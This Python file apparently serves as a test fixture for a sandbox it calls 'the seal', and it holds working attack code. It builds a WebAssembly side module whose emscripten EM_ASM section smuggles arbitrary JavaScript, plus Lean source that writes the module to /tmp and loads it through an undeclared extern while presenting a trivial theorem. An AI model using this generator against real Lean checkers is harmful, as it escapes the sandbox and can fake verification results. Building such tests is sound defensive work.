"""The attack that the seal was made for: a WebAssembly side module with JavaScript in it, written and loaded by Lean code."""

from __future__ import annotations

PATH = "/tmp/side.so"


def _leb(n: int) -> bytes:
    out = bytearray()
    while n > 127:
        out.append(n & 127 | 128)
        n >>= 7
    out.append(n)
    return bytes(out)


def _sleb(n: int) -> bytes:
    out = bytearray()
    while n > 63:
        out.append(n & 127 | 128)
        n >>= 7
    out.append(n)
    return bytes(out)


def _name(text: str) -> bytes:
    return _leb(len(text)) + text.encode()


def _section(number: int, body: bytes) -> bytes:
    return bytes([number]) + _leb(len(body)) + body


def module(javascript: str) -> bytes:
    """A module whose loader evaluates `javascript`: emscripten takes what stands between two exported addresses for the text of
    functions."""
    text = ("};" + javascript + ";()=>{").encode() + b"\0"
    memory = _leb(len(text)) + _leb(0) + _leb(0) + _leb(0)
    parts = [
        _section(0, _name("dylink.0") + b"\x01" + _leb(len(memory)) + memory),
        _section(
            2,
            _leb(2)
            + (_name("env") + _name("memory") + b"\x02\x03" + _leb(0) + _leb(32768))
            + (_name("env") + _name("__memory_base") + b"\x03\x7f\x00"),
        ),
        _section(6, _leb(2) + b"\x7f\x00\x41\x00\x0b" + b"\x7f\x00\x41" + _sleb(len(text)) + b"\x0b"),
        _section(7, _leb(2) + _name("__start_em_asm") + b"\x03\x01" + _name("__stop_em_asm") + b"\x03\x02"),
        _section(11, _leb(1) + b"\x00\x23\x00\x0b" + _leb(len(text)) + text),
    ]
    return b"\0asm\x01\0\0\0" + b"".join(parts)


def lean(javascript: str) -> str:
    """Lean source that loads it, with nothing imported but Init."""
    content = "".join(chr(b) if chr(b).isascii() and chr(b).isalnum() else f"\\x{b:02x}" for b in module(javascript))
    return f"""
namespace Lean
@[extern "lean_load_dynlib"] opaque loadDynlib (path : @& System.FilePath) : IO Unit
end Lean
def content : String := "{content}"
def bytes : ByteArray := content.foldl (fun b c => b.push c.toNat.toUInt8) ByteArray.empty
#eval show IO Unit from do
  IO.FS.writeBinFile "{PATH}" bytes
  Lean.loadDynlib "{PATH}"
theorem fine : True := trivial
"""
